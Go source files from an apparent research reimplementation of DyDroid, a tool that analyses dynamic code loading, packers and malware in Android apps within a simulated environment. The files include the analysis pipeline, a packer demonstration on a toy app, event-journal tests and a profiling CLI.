//   - RunExperiments — regenerate every table and figure of the paper's
//     evaluation over such a marketplace.
//
// The simulated Android substrate (SDEX bytecode, SELF native binaries,
// APK containers, device/framework, class-loading VM) lives under
// internal/ and is documented in DESIGN.md.
package dydroid

import (
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/bouncer"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/experiments"
	"github.com/dydroid/dydroid/internal/netsim"
)

// Analyzer is the DyDroid pipeline (see internal/core).
type Analyzer = core.Analyzer

// Options configure an Analyzer.
type Options = core.Options

// AppResult is a per-app analysis report.
type AppResult = core.AppResult

// DCLEvent is one logged dynamic code loading event.
type DCLEvent = core.DCLEvent

// Vulnerability is one risky DCL usage (Table IX).
type Vulnerability = core.Vulnerability

// MalwareHit is one DroidNative detection over intercepted code.
type MalwareHit = core.MalwareHit

// ReplayConfig is a Table VIII runtime configuration.
type ReplayConfig = core.ReplayConfig

// Statuses, kinds and entities re-exported from the pipeline.
const (
	StatusExercised      = core.StatusExercised
	StatusNoDCL          = core.StatusNoDCL
	StatusUnpackFailure  = core.StatusUnpackFailure
	StatusRewriteFailure = core.StatusRewriteFailure
	StatusNoActivity     = core.StatusNoActivity
	StatusCrash          = core.StatusCrash
	StatusAnalysisError  = core.StatusAnalysisError

	KindDex    = core.KindDex
	KindNative = core.KindNative

	EntityOwn        = core.EntityOwn
	EntityThirdParty = core.EntityThirdParty

	ProvenanceLocal  = core.ProvenanceLocal
	ProvenanceRemote = core.ProvenanceRemote
)

// AllReplayConfigs lists the Table VIII configurations.
var AllReplayConfigs = core.AllReplayConfigs

// NewAnalyzer creates a pipeline with the given options.
func NewAnalyzer(opts Options) *Analyzer { return core.NewAnalyzer(opts) }

// Store is a generated synthetic marketplace.
type Store = corpus.Store

// StoreApp is one marketplace application.
type StoreApp = corpus.StoreApp

// StoreConfig controls marketplace generation.
type StoreConfig = corpus.Config

// GenerateStore synthesizes a marketplace calibrated to the paper's
// measurement.
func GenerateStore(cfg StoreConfig) (*Store, error) { return corpus.Generate(cfg) }

// ExperimentConfig controls a full measurement run.
type ExperimentConfig = experiments.Config

// ExperimentResults is the output of a measurement run; Report() renders
// every table and figure.
type ExperimentResults = experiments.Results

// RunStats summarizes a measurement run: throughput, per-stage timing
// histograms and failure counts.
type RunStats = experiments.RunStats

// FailurePolicy selects how RunExperiments treats a per-app analysis
// failure: record it and continue (FailRecord, the default) or cancel
// the run (FailFast).
type FailurePolicy = experiments.FailurePolicy

// Failure policies.
const (
	FailRecord = experiments.FailRecord
	FailFast   = experiments.FailFast
)

// RunExperiments regenerates the paper's evaluation over a fresh
// marketplace.
func RunExperiments(cfg ExperimentConfig) (*ExperimentResults, error) {
	return experiments.Run(cfg)
}

// Classifier is the DroidNative malware detector.
type Classifier = droidnative.Classifier

// Reviewer is the store-side submission review (Google Bouncer analogue).
type Reviewer = bouncer.Reviewer

// Verdict is a review outcome.
type Verdict = bouncer.Verdict

// Network is the simulated remote-server registry.
type Network = netsim.Network

// NewNetwork creates an empty network.
func NewNetwork() *Network { return netsim.NewNetwork() }

// Payload is one servable remote resource.
type Payload = netsim.Payload

// APK is the application package object model; BuildAPK and ParseAPK
// convert to and from archive bytes.
type APK = apk.APK

// Manifest is the AndroidManifest model.
type Manifest = apk.Manifest

// Component declares one app component in a Manifest.
type Component = apk.Component

// BuildAPK serializes an APK object into archive bytes.
func BuildAPK(a *APK) ([]byte, error) { return apk.Build(a) }

// ParseAPK reads archive bytes back into the object model.
func ParseAPK(data []byte) (*APK, error) { return apk.Parse(data) }
