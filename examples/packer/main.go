// Packer demonstrates the app-hardening side of DCL (paper §III-D): a
// readable app is packed with Bangcle-style DEX encryption, static
// analysis of the shipped archive goes blind, yet DyDroid's obfuscation
// rules identify the packer and its dynamic engine still intercepts the
// decrypted bytecode the moment the container loads it.
package main

import (
	"fmt"
	"log"

	"github.com/dydroid/dydroid"
	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/obfuscation"
)

func buildApp() *dydroid.APK {
	pkg := "com.tv.remotecontrol"
	b := dex.NewBuilder()
	act := b.Class(pkg+".MainActivity", "android.app.Activity")
	m := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	m.InvokeVirtual(dex.MethodRef{Class: pkg + ".MainActivity",
		Name: "pairWithTelevision", Sig: "()V"}, 0).
		ReturnVoid().Done()
	act.Method("pairWithTelevision", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		log.Fatal(err)
	}
	return &dydroid.APK{
		Manifest: dydroid.Manifest{Package: pkg, MinSDK: 16},
		Dex:      dexBytes,
	}
}

func main() {
	app := buildApp()
	app.Manifest.Application.Activities = []dydroid.Component{
		{Name: app.Manifest.Package + ".MainActivity", Main: true}}

	// Pack it: encrypt classes.dex, inject the container + native decryptor.
	packed, err := obfuscation.Pack(app, 0x6e)
	if err != nil {
		log.Fatal(err)
	}
	packedBytes, err := dydroid.BuildAPK(packed)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("== what static analysis sees ==")
	u, err := (apktool.Tool{}).Unpack(packedBytes)
	if err != nil {
		log.Fatal(err)
	}
	for name := range u.Smali() {
		fmt.Printf("  shipped class: %s\n", name)
	}
	fmt.Printf("  original MainActivity visible: %v\n", u.Dex.FindClass(app.Manifest.Package+".MainActivity") != nil)
	fmt.Printf("  manifest still declares:       %s\n", packed.Manifest.LaunchActivity())
	fmt.Printf("  android:name container:        %s\n", packed.Manifest.Application.Name)

	fmt.Println("\n== DyDroid's three-rule packer identification ==")
	var det obfuscation.Detector
	rep := det.AnalyzeUnpacked(u)
	fmt.Printf("  DEX encryption detected: %v (native decryptor present: %v)\n",
		rep.DEXEncryption, rep.Native)

	fmt.Println("\n== dynamic analysis still wins ==")
	an := dydroid.NewAnalyzer(dydroid.Options{Seed: 1})
	res, err := an.AnalyzeAPK(packedBytes)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("  status: %s\n", res.Status)
	for _, ev := range res.Events {
		fmt.Printf("  intercepted %s load: %s (%d bytes, call site %s)\n",
			ev.Kind, ev.Path, len(ev.Intercepted), ev.CallSite)
	}
	// The intercepted payload decodes to the original bytecode.
	for _, ev := range res.Events {
		if ev.Kind != dydroid.KindDex || ev.Intercepted == nil {
			continue
		}
		df, err := dex.Decode(ev.Intercepted)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  decrypted payload contains: ")
		for i, c := range df.Classes {
			if i > 0 {
				fmt.Print(", ")
			}
			fmt.Print(c.Name)
		}
		fmt.Println(" — the original app, recovered")
	}
}
