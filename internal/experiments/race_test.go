//go:build race

package experiments

func init() { raceDetectorEnabled = true }
