package events

import (
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"
)

// synthEvent builds one deterministic event; i orders timestamps.
func synthEvent(i int) Event {
	types := []Type{NodeEjected, NodeRejoined, ScanFailover, QueueDegraded, SlowAnalysis}
	return Event{
		Time:   time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second),
		Type:   types[i%len(types)],
		Node:   fmt.Sprintf("node-%d", i%3),
		Digest: fmt.Sprintf("%04x", i),
		Detail: fmt.Sprintf("detail %d", i),
	}
}

func mustJSON(t *testing.T, l Log) string {
	t.Helper()
	raw, err := json.Marshal(l)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// TestLogMergeEqualsUnion: folding per-shard logs reproduces the
// single-pass log regardless of merge order — the property that lets a
// coordinator federate member journals.
func TestLogMergeEqualsUnion(t *testing.T) {
	const n = 60
	union := Log{K: DefaultCap}
	var a, b, c Log
	a.K, b.K, c.K = DefaultCap, DefaultCap, DefaultCap
	for i := 0; i < n; i++ {
		e := synthEvent(i)
		union.Observe(e)
		switch {
		case i < 20:
			a.Observe(e)
		case i < 45:
			b.Observe(e)
		default:
			c.Observe(e)
		}
	}
	want := mustJSON(t, union)
	for name, parts := range map[string][]Log{
		"a+b+c": {a, b, c},
		"c+a+b": {c, a, b},
		"b+c+a": {b, c, a},
	} {
		got := Log{K: DefaultCap}
		for _, p := range parts {
			got.Merge(p)
		}
		if g := mustJSON(t, got); g != want {
			t.Errorf("merge order %s diverges:\n got: %.200s\nwant: %.200s", name, g, want)
		}
	}
}

// TestLogMergeIdempotent: refetching the same member journal must not
// duplicate its entries.
func TestLogMergeIdempotent(t *testing.T) {
	var l Log
	l.K = 16
	for i := 0; i < 5; i++ {
		l.Observe(synthEvent(i))
	}
	merged := Log{K: 16}
	merged.Merge(l)
	merged.Merge(l)
	if len(merged.Entries) != 5 {
		t.Fatalf("double merge kept %d entries, want 5", len(merged.Entries))
	}
	if mustJSON(t, merged) != mustJSON(t, l) {
		t.Fatal("idempotent merge diverged")
	}
}

// TestLogBoundKeepsNewest: past the cap, the oldest events fall off.
func TestLogBoundKeepsNewest(t *testing.T) {
	l := Log{K: 8}
	for i := 0; i < 30; i++ {
		l.Observe(synthEvent(i))
	}
	if len(l.Entries) != 8 {
		t.Fatalf("len = %d, want 8", len(l.Entries))
	}
	if l.Entries[0].Digest != fmt.Sprintf("%04x", 29) {
		t.Fatalf("newest entry = %+v, want event 29", l.Entries[0])
	}
	for i := 1; i < len(l.Entries); i++ {
		if l.Entries[i].Time.After(l.Entries[i-1].Time) {
			t.Fatal("entries not newest-first")
		}
	}
}

func TestJournalRecordStampsTimeAndBounds(t *testing.T) {
	j := NewJournal(4)
	before := time.Now()
	j.Record(Event{Type: DrainStarted, Node: "w1"})
	got := j.Log()
	if len(got.Entries) != 1 {
		t.Fatalf("len = %d", len(got.Entries))
	}
	if got.Entries[0].Time.Before(before) {
		t.Fatal("zero event time not stamped with now")
	}
	for i := 0; i < 10; i++ {
		j.Record(synthEvent(i))
	}
	if j.Len() != 4 {
		t.Fatalf("journal len = %d, want cap 4", j.Len())
	}
	// Nil journals are inert.
	var nj *Journal
	nj.Record(Event{Type: DrainStarted})
	if nj.Len() != 0 || len(nj.Log().Entries) != 0 {
		t.Fatal("nil journal not inert")
	}
}

func TestJournalConcurrentRecord(t *testing.T) {
	j := NewJournal(64)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				j.Record(Event{Type: ScanFailover, Node: fmt.Sprintf("w%d", w), Digest: fmt.Sprint(i)})
			}
		}(w)
	}
	wg.Wait()
	if j.Len() != 64 {
		t.Fatalf("journal len = %d, want 64", j.Len())
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	evs := []Event{synthEvent(0), synthEvent(1), synthEvent(2)}
	var buf strings.Builder
	if err := EncodeJSONL(&buf, evs); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(strings.TrimRight(buf.String(), "\n"), "\n") + 1; lines != 3 {
		t.Fatalf("encoded %d lines, want 3", lines)
	}
	back, err := DecodeJSONL(strings.NewReader(buf.String() + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 3 {
		t.Fatalf("decoded %d events", len(back))
	}
	for i := range back {
		if !back[i].Time.Equal(evs[i].Time) || back[i].Type != evs[i].Type ||
			back[i].Node != evs[i].Node || back[i].Detail != evs[i].Detail {
			t.Fatalf("event %d diverged: %+v != %+v", i, back[i], evs[i])
		}
	}
	if _, err := DecodeJSONL(strings.NewReader("{not json}\n")); err == nil {
		t.Fatal("garbage line decoded")
	}
}

// TestDecodeJSONLTruncatedLine: a stream cut mid-object (a crashed
// writer, a partial download) fails loudly with the offending line
// number instead of dropping the tail.
func TestDecodeJSONLTruncatedLine(t *testing.T) {
	var buf strings.Builder
	if err := EncodeJSONL(&buf, []Event{synthEvent(0), synthEvent(1)}); err != nil {
		t.Fatal(err)
	}
	whole := buf.String()
	// Cut the final line in half, leaving unterminated JSON.
	cut := whole[:len(whole)-len(whole)/4]
	_, err := DecodeJSONL(strings.NewReader(cut))
	if err == nil {
		t.Fatal("truncated stream decoded without error")
	}
	if !strings.Contains(err.Error(), "line 2") {
		t.Fatalf("error does not name the bad line: %v", err)
	}
}

// TestDecodeJSONLUnknownKind: well-formed JSON whose kind is outside the
// journal vocabulary is a corrupt or incompatible stream, rejected with
// the kind named, not folded silently into an aggregate.
func TestDecodeJSONLUnknownKind(t *testing.T) {
	var buf strings.Builder
	if err := EncodeJSONL(&buf, []Event{synthEvent(0)}); err != nil {
		t.Fatal(err)
	}
	buf.WriteString(`{"time":"2026-08-01T00:00:05Z","type":"node-vaporized","node":"w1"}` + "\n")
	_, err := DecodeJSONL(strings.NewReader(buf.String()))
	if err == nil {
		t.Fatal("unknown kind decoded without error")
	}
	if !strings.Contains(err.Error(), "unknown event kind") ||
		!strings.Contains(err.Error(), "node-vaporized") ||
		!strings.Contains(err.Error(), "line 2") {
		t.Fatalf("error missing kind or line context: %v", err)
	}
	// A missing type field is the same vocabulary violation.
	if _, err := DecodeJSONL(strings.NewReader(`{"time":"2026-08-01T00:00:05Z","node":"w1"}` + "\n")); err == nil {
		t.Fatal("typeless event decoded without error")
	}
}
