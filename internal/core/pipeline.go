package core

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"time"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/apktool"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/monkey"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
	"github.com/dydroid/dydroid/internal/obfuscation"
	"github.com/dydroid/dydroid/internal/taint"
	"github.com/dydroid/dydroid/internal/vm"
)

// Options configure an Analyzer.
type Options struct {
	// MonkeyEvents is the fuzzing budget per app (default 25).
	MonkeyEvents int
	// Seed drives the fuzzer deterministically.
	Seed int64
	// Tool is the apktool installation (zero value = the buggy
	// measurement-era version).
	Tool apktool.Tool
	// Classifier is the trained DroidNative detector; nil disables
	// malware detection.
	Classifier *droidnative.Classifier
	// Network is the marketplace network serving remote payloads; it is
	// cloned per app run. Nil means no connectivity.
	Network *netsim.Network
	// SetupDevice provisions companion apps (ad-target apps, Adobe AIR,
	// chat apps) on the fresh per-run device.
	SetupDevice func(*android.Device) error
	// StorageQuota bounds device storage (0 = unlimited); exercises the
	// storage-exhaustion exception handling.
	StorageQuota int64
	// RunDynamicWithoutDCL forces dynamic analysis even when the
	// pre-filter finds no DCL code (ablation; the paper skips such apps).
	RunDynamicWithoutDCL bool
	// DisableDeleteBlocking turns off the interception queue's
	// delete/rename blocking (ablation: temporary loaded files vanish
	// before the dump phase).
	DisableDeleteBlocking bool
	// StepBudget overrides the per-invocation VM budget (0 = default).
	StepBudget int
	// Metrics, when non-nil, receives per-stage duration histograms
	// (stage.unpack / stage.rewrite / stage.dynamic / stage.static /
	// stage.replay), app.total timings, and status.* counters. A nil
	// registry disables instrumentation at zero cost.
	Metrics *metrics.Registry
}

// Analyzer is the DyDroid pipeline.
type Analyzer struct {
	opts Options
}

// NewAnalyzer creates a pipeline with the given options.
func NewAnalyzer(opts Options) *Analyzer {
	if opts.MonkeyEvents == 0 {
		opts.MonkeyEvents = 25
	}
	return &Analyzer{opts: opts}
}

// AnalyzeAPK runs the full pipeline (Fig. 1) on one application archive:
// decompile, static pre-filter and obfuscation analysis, rewrite, dynamic
// exercise with DCL logging/interception/tracking, then static malware,
// vulnerability and privacy analysis of the intercepted code. When
// Options.Metrics is set, every stage duration and the final status are
// recorded into the registry.
func (a *Analyzer) AnalyzeAPK(apkBytes []byte) (*AppResult, error) {
	stop := a.opts.Metrics.Time("app.total")
	res, err := a.analyzeAPK(apkBytes)
	stop()
	if err != nil {
		a.opts.Metrics.Add("status."+string(StatusAnalysisError), 1)
		return nil, err
	}
	a.opts.Metrics.Add("status."+string(res.Status), 1)
	return res, nil
}

func (a *Analyzer) analyzeAPK(apkBytes []byte) (*AppResult, error) {
	res := &AppResult{}

	tUnpack := time.Now()
	u, err := a.opts.Tool.Unpack(apkBytes)
	if err != nil {
		a.opts.Metrics.Observe("stage.unpack", time.Since(tUnpack))
		if errors.Is(err, apktool.ErrDecompile) {
			res.Status = StatusUnpackFailure
			res.Obfuscation.AntiDecompile = true
			return res, nil
		}
		return nil, fmt.Errorf("core: %w", err)
	}
	res.Package = u.APK.Manifest.Package
	res.PreFilter = obfuscation.PreFilter(u)
	det := obfuscation.Detector{Tool: a.opts.Tool}
	res.Obfuscation = det.AnalyzeUnpacked(u)
	a.opts.Metrics.Observe("stage.unpack", time.Since(tUnpack))

	if !res.PreFilter.HasDexDCL && !res.PreFilter.HasNativeDCL && !a.opts.RunDynamicWithoutDCL {
		res.Status = StatusNoDCL
		return res, nil
	}

	// Rewrite with the logging permission when missing.
	runBytes := apkBytes
	if !u.APK.Manifest.HasPermission(apk.WriteExternalStorage) {
		tRewrite := time.Now()
		rewritten, err := a.opts.Tool.Repack(apkBytes)
		a.opts.Metrics.Observe("stage.rewrite", time.Since(tRewrite))
		if err != nil {
			if errors.Is(err, apktool.ErrRepack) {
				res.Status = StatusRewriteFailure
				return res, nil
			}
			return nil, fmt.Errorf("core: %w", err)
		}
		runBytes = rewritten
	}

	// Dynamic phase, with one retry after cleaning external storage when
	// the device runs out of space (automatic exception handling).
	tDynamic := time.Now()
	run, err := a.runDynamic(runBytes, nil)
	if err != nil && isNoSpace(err) {
		a.opts.Metrics.Add("dynamic.nospace-retries", 1)
		run, err = a.runDynamic(runBytes, func(dev *android.Device) {
			dev.Storage.RemovePrefix(LogRoot)
		})
	}
	a.opts.Metrics.Observe("stage.dynamic", time.Since(tDynamic))
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	res.Events = run.events
	res.RuntimeEvents = run.vmEvents
	switch run.outcome {
	case monkey.OutcomeNoActivity:
		res.Status = StatusNoActivity
		return res, nil
	case monkey.OutcomeCrash:
		// Crashes keep whatever was intercepted before the process died.
		res.Status = StatusCrash
		res.Crash = run.crash
	default:
		res.Status = StatusExercised
	}

	tStatic := time.Now()
	a.staticOnIntercepted(res)
	minSDK := u.APK.Manifest.MinSDK
	res.Vulns = AnalyzeVulnerabilities(res.Package, minSDK, res.Events)
	a.opts.Metrics.Observe("stage.static", time.Since(tStatic))
	return res, nil
}

// isNoSpace reports whether the error chain reaches the storage layer's
// quota-exhaustion sentinel. Every exhaustion path wraps
// android.ErrNoSpace (the VM preserves inner error chains with %w), so a
// plain errors.Is suffices — no string matching.
func isNoSpace(err error) bool {
	return errors.Is(err, android.ErrNoSpace)
}

// dynRun is the outcome of one dynamic exercise.
type dynRun struct {
	outcome  monkey.Outcome
	crash    error
	events   []*DCLEvent
	vmEvents []vm.Event
}

// runDynamic provisions a fresh device, installs the app with full
// instrumentation and exercises it. preLaunch mutates the device after
// provisioning (used by the retry path and the Table VIII replays).
func (a *Analyzer) runDynamic(apkBytes []byte, preLaunch func(*android.Device)) (*dynRun, error) {
	devOpts := []android.Option{}
	if a.opts.StorageQuota > 0 {
		devOpts = append(devOpts, android.WithStorageQuota(a.opts.StorageQuota))
	}
	dev := android.NewDevice(devOpts...)
	if a.opts.SetupDevice != nil {
		if err := a.opts.SetupDevice(dev); err != nil {
			return nil, fmt.Errorf("core: device setup: %w", err)
		}
	}
	var net *netsim.Network
	if a.opts.Network != nil {
		net = a.opts.Network.Clone()
		net.Online = dev.NetworkAvailable
	}
	parsed, err := apk.Parse(apkBytes)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	app, err := dev.Packages.Install(parsed)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	logger := NewLogger(app.Package, dev.Storage)
	logger.DisableBlocking = a.opts.DisableDeleteBlocking
	tracker := NewTracker()
	if preLaunch != nil {
		preLaunch(dev)
	}
	machine, err := vm.New(dev, net, app, logger, tracker)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	if a.opts.StepBudget > 0 {
		machine.StepBudget = a.opts.StepBudget
	}
	mres := monkey.Exercise(machine, a.opts.MonkeyEvents, a.opts.Seed)

	logger.FinalizeInterception()
	events := logger.Events()
	tracker.Annotate(events)
	// Measurement events exclude system libraries.
	var kept []*DCLEvent
	for _, ev := range events {
		if !ev.SystemLib {
			kept = append(kept, ev)
		}
	}
	if _, err := logger.DumpIntercepted(); err != nil && !isNoSpace(err) {
		return nil, err
	}
	return &dynRun{
		outcome:  mres.Outcome,
		crash:    mres.Err,
		events:   kept,
		vmEvents: machine.Events(),
	}, nil
}

// staticOnIntercepted runs DroidNative and the taint analysis over every
// intercepted binary and fills the malware/privacy sections of the
// result.
func (a *Analyzer) staticOnIntercepted(res *AppResult) {
	merged := &taint.Result{SourcesSeen: make(map[android.DataType]bool)}
	// Dedup keys on (path, content hash), not path alone: a payload
	// overwritten at the same path between two loads (the packer-swap
	// pattern, §V-F) is a distinct binary and must still be classified.
	type interceptKey struct {
		path string
		sum  [sha256.Size]byte
	}
	classified := make(map[interceptKey]bool)
	anyDex := false
	for _, ev := range res.Events {
		if ev.Intercepted == nil {
			continue
		}
		key := interceptKey{path: ev.Path, sum: sha256.Sum256(ev.Intercepted)}
		if classified[key] {
			continue
		}
		classified[key] = true
		switch {
		case dex.IsOptimized(ev.Intercepted), isDex(ev.Intercepted):
			df, err := dex.Decode(ev.Intercepted)
			if err != nil {
				continue
			}
			anyDex = true
			if a.opts.Classifier != nil {
				if det := a.opts.Classifier.Classify(mail.FromDex(df)); det.Malware {
					res.Malware = append(res.Malware, MalwareHit{
						Path: ev.Path, Kind: KindDex, Family: det.Family, Score: det.Score,
					})
				}
			}
			tr := taint.Analyze(df)
			merged.Leaks = append(merged.Leaks, tr.Leaks...)
			for dt := range tr.SourcesSeen {
				merged.SourcesSeen[dt] = true
			}
		case nativebin.IsSELF(ev.Intercepted):
			if a.opts.Classifier == nil {
				continue
			}
			lib, err := nativebin.Decode(ev.Intercepted)
			if err != nil {
				continue
			}
			if det := a.opts.Classifier.Classify(mail.FromNative(lib)); det.Malware {
				res.Malware = append(res.Malware, MalwareHit{
					Path: ev.Path, Kind: KindNative, Family: det.Family, Score: det.Score,
				})
			}
		}
	}
	if anyDex {
		res.Privacy = merged
		res.PrivacyByEntity = make(map[string]bool)
		for _, dt := range merged.LeakedTypes() {
			exclusive := true
			for _, cls := range merged.LeakClasses(dt) {
				if classifyEntity(res.Package, cls) == EntityOwn {
					exclusive = false
					break
				}
			}
			res.PrivacyByEntity[string(dt)] = exclusive
		}
	}
}

func isDex(data []byte) bool {
	return len(data) >= 4 && string(data[:4]) == dex.Magic
}

// ReplayUnderConfig re-runs the app's dynamic analysis under one Table
// VIII runtime configuration and returns the set of file paths whose DCL
// events fired (used to test whether malicious loads are gated on the
// environment).
func (a *Analyzer) ReplayUnderConfig(apkBytes []byte, cfg ReplayConfig, releaseDate time.Time) (map[string]bool, error) {
	if releaseDate.IsZero() {
		releaseDate = DefaultReleaseDate
	}
	defer a.opts.Metrics.Time("stage.replay")()
	run, err := a.runDynamic(apkBytes, func(dev *android.Device) {
		switch cfg {
		case ConfigTimeBeforeRelease:
			dev.SetClock(releaseDate.AddDate(0, -1, 0))
		case ConfigAirplaneWiFiOn:
			dev.SetAirplaneMode(true)
			dev.SetWiFi(true)
		case ConfigAirplaneWiFiOff:
			dev.SetAirplaneMode(true)
		case ConfigLocationOff:
			dev.SetLocationEnabled(false)
		}
	})
	if err != nil {
		return nil, err
	}
	loaded := make(map[string]bool)
	for _, ev := range run.events {
		loaded[ev.Path] = true
	}
	return loaded, nil
}

// RewriteNeeded reports whether dynamic analysis of this archive would
// require repackaging (no WRITE_EXTERNAL_STORAGE declared).
func RewriteNeeded(a *apk.APK) bool {
	return !a.Manifest.HasPermission(apk.WriteExternalStorage)
}
