package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"github.com/dydroid/dydroid/internal/profile"
)

// runProfile implements the profile subcommand — the reader side of the
// fleet's continuous-profiling ring:
//
//	apkinspect profile list -url http://daemon:8437
//	apkinspect profile top [-n 10] -url URL <window-id[@node]>
//	apkinspect profile top [-n 10] window.json
//	apkinspect profile diff [-n 10] -url URL <old-id[@node]> <new-id[@node]>
//	apkinspect profile diff [-n 10] old.json new.json
//
// list renders the window index (a worker's own ring, or a
// coordinator's federated view across every member). top renders one
// window's top-functions table; diff renders the flat self-time
// regression between two windows — "@node" pins a window to a member
// when fetching through a coordinator, so the two sides of a diff can
// come from different nodes. A window JSON file (a saved
// /v1/profiles/{id} body) works in place of a URL fetch.
func runProfile(w io.Writer, args []string) error {
	const usage = "usage: apkinspect profile list -url URL | profile top [-n N] (-url URL <id[@node]> | <file.json>) | profile diff [-n N] (-url URL <old> <new> | <old.json> <new.json>)"
	if len(args) < 1 {
		return fmt.Errorf("%s", usage)
	}
	verb := args[0]
	fs := flag.NewFlagSet("profile "+verb, flag.ContinueOnError)
	baseURL := fs.String("url", "", "daemon or coordinator base URL")
	topN := fs.Int("n", 10, "rows to render")
	asJSON := fs.Bool("json", false, "print raw JSON instead of tables")
	if err := fs.Parse(args[1:]); err != nil {
		return err
	}

	switch verb {
	case "list":
		if *baseURL == "" || fs.NArg() != 0 {
			return fmt.Errorf("%s", usage)
		}
		metas, raw, err := fetchProfileIndex(*baseURL)
		if err != nil {
			return err
		}
		if *asJSON {
			_, err := w.Write(append(raw, '\n'))
			return err
		}
		profile.RenderIndex(w, metas)
		return nil

	case "top":
		if fs.NArg() != 1 {
			return fmt.Errorf("%s", usage)
		}
		win, err := resolveWindow(*baseURL, fs.Arg(0))
		if err != nil {
			return err
		}
		if *asJSON {
			return json.NewEncoder(w).Encode(win)
		}
		profile.RenderTop(w, win, *topN)
		return nil

	case "diff":
		if fs.NArg() != 2 {
			return fmt.Errorf("%s", usage)
		}
		oldW, err := resolveWindow(*baseURL, fs.Arg(0))
		if err != nil {
			return err
		}
		newW, err := resolveWindow(*baseURL, fs.Arg(1))
		if err != nil {
			return err
		}
		profile.RenderDiff(w, oldW, newW, *topN)
		return nil
	}
	return fmt.Errorf("unknown profile verb %q\n%s", verb, usage)
}

// fetchProfileIndex pulls a /v1/profiles index. Workers answer a bare
// window array; coordinators answer the federated envelope with
// node-tagged rows — both decode to the same table.
func fetchProfileIndex(base string) ([]profile.Meta, []byte, error) {
	body, err := httpGetAll(normalizeBase(base) + "/v1/profiles")
	if err != nil {
		return nil, nil, err
	}
	trimmed := strings.TrimSpace(string(body))
	if strings.HasPrefix(trimmed, "[") {
		var metas []profile.Meta
		if err := json.Unmarshal(body, &metas); err != nil {
			return nil, nil, fmt.Errorf("decode profile index: %w", err)
		}
		return metas, body, nil
	}
	var federated struct {
		Missing []string       `json:"missing"`
		Windows []profile.Meta `json:"windows"`
	}
	if err := json.Unmarshal(body, &federated); err != nil {
		return nil, nil, fmt.Errorf("decode federated profile index: %w", err)
	}
	if len(federated.Missing) > 0 {
		fmt.Fprintf(os.Stderr, "apkinspect: warning: %d node(s) unreachable: %s\n",
			len(federated.Missing), strings.Join(federated.Missing, ", "))
	}
	return federated.Windows, body, nil
}

// resolveWindow loads one window: with a base URL the argument is a
// window ID, optionally "@node"-pinned to a federation member;
// without one it is a window JSON file.
func resolveWindow(base, arg string) (*profile.Window, error) {
	if base == "" {
		data, err := os.ReadFile(arg)
		if err != nil {
			return nil, err
		}
		win := new(profile.Window)
		if err := json.Unmarshal(data, win); err != nil {
			return nil, fmt.Errorf("%s: decode window: %w", arg, err)
		}
		return win, nil
	}
	id, node, _ := strings.Cut(arg, "@")
	target := normalizeBase(base) + "/v1/profiles/" + url.PathEscape(id)
	if node != "" {
		target += "?node=" + url.QueryEscape(node)
	}
	body, err := httpGetAll(target)
	if err != nil {
		return nil, err
	}
	win := new(profile.Window)
	if err := json.Unmarshal(body, win); err != nil {
		return nil, fmt.Errorf("decode window %s: %w", arg, err)
	}
	return win, nil
}

func normalizeBase(base string) string {
	base = strings.TrimRight(base, "/")
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	return base
}

func httpGetAll(target string) ([]byte, error) {
	client := &http.Client{Timeout: 30 * time.Second}
	resp, err := client.Get(target)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 32<<20))
	if err != nil {
		return nil, err
	}
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("GET %s: status %d: %s", target, resp.StatusCode, body)
	}
	return body, nil
}
