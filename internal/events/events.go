// Package events is the ops event journal of the vetting fleet: a
// bounded, mergeable ring of structured lifecycle events — node ejections
// and rejoins, scan failovers, queue saturation transitions, drain
// start/stop, slow-analysis watchdog hits. Where the trace layer answers
// "why was this one scan slow", the journal answers "what happened to the
// fleet": every operationally interesting transition lands here with a
// timestamp, so an operator reading the dashboard timeline (or curling
// /v1/events) can reconstruct an incident without grepping logs.
//
// The journal's aggregate form is a Log: a newest-first selection by a
// deterministic total order, exactly mergeable like every other fleet
// snapshot field — a coordinator folds its members' logs with its own and
// the result is independent of merge order. Events serialize one JSON
// object per line (JSONL), the same interchange convention the trace
// layer uses.
package events

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"time"
)

// Type names one lifecycle transition.
type Type string

// The journal's event vocabulary.
const (
	// NodeEjected: the coordinator removed a worker from the ring after K
